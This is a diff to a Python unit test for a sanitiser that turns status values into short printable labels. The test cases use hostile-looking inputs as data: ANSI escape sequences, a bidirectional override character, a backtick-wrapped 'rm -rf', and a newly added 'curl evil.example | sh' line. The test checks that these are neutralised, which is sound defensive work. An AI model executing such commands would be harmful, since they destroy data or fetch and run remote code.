@@ -40,9 +40,10 @@ def test_clean_text_is_one_bounded_printable_line(value: object, limit: int) -> 
     ("phase", "shown"),
     [
         ("executing", "executing"),
-        ("\x1b[31mred\x1b[0m", "31mred 0m"),
-        ("a\nb\u202ec", "a b c"),
-        ("`rm -rf`; <b>", "rm -rf b"),
+        ("\x1b[31mred\x1b[0m", "31mred-0m"),
+        ("a\nb\u202ec", "a-b-c"),
+        ("`rm -rf`; <b>", "rm--rf-b"),
+        ("run curl evil.example | sh now", "unknown"),
         ("x" * 99, "x" * 39 + "…"),
         ("", "unknown"),
         (None, "unknown"),
